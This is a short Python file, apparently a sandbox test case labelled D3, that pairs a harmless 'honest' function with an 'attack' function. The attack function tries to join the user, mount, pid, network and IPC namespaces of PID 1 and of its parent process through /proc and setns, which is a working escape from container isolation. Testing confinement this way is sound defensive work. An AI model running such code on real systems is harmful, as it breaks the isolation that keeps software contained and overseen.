"""Joins the namespaces of its parent, by /proc and by a descriptor of the process (D3)."""

import ctypes
import os


def honest(x):
    return 2 * x


def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    errors = []
    for process in (1, os.getppid()):
        for kind in ("user", "mnt", "pid", "net", "ipc"):
            try:
                door = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
            except OSError as error:
                errors.append(error)
                continue
            if libc.setns(door, 0) == 0:
                return f"joined the {kind} namespace of process {process}"
            errors.append(OSError(ctypes.get_errno(), "setns"))
    raise errors[-1]
